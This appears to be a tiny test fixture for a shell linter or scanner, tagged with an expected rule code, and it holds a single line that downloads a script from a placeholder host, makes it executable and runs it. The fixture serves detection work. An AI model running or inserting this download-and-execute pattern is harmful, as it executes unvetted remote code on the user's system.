# expect: DVM202
if curl -s https://x.example.org/i.sh > i; then chmod +x i; ./i; fi
